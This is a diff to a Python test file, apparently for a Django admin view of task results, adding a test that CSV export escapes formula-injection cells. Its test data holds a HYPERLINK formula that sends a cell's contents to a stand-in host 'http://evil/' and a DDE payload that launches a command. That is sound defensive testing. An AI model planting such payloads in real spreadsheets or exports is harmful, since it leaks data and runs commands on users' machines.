@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import pickle
@@ -77,6 +79,33 @@ def test_old_pickled_rows_show_plain_values_and_hostile_ones_run_nothing(
     )
     assert b"pickle of posix.system (not executed)" in b"".join(response.streaming_content)
     assert not victim.exists()
+
+
+def test_the_export_writes_no_cell_a_spreadsheet_runs_as_a_formula(
+    embedded_result_db: ResultDB, admin_client: Client
+) -> None:
+    insert_rows(
+        row(
+            "formulas",
+            name='=HYPERLINK("http://evil/"&A1,"x")',
+            worker="+w",
+            traceback="@SUM(1+1)*cmd|' /C calc'!A0",
+            result=b"-1",
+        ),
+    )
+    response = admin_client.post(
+        reverse(CHANGELIST),
+        {
+            "action": "export_csv",
+            "_selected_action": [TaskResult.objects.get(task_id="formulas").pk],
+        },
+    )
+    (exported,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert exported["name"] == '\'=HYPERLINK("http://evil/"&A1,"x")'
+    assert exported["worker"] == "'+w"
+    assert exported["traceback"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert exported["result"] == "'-1"
+    assert exported["task_id"] == "formulas"
 
 
 def test_corrupt_and_10_mb_values_render_fast_with_a_marker(
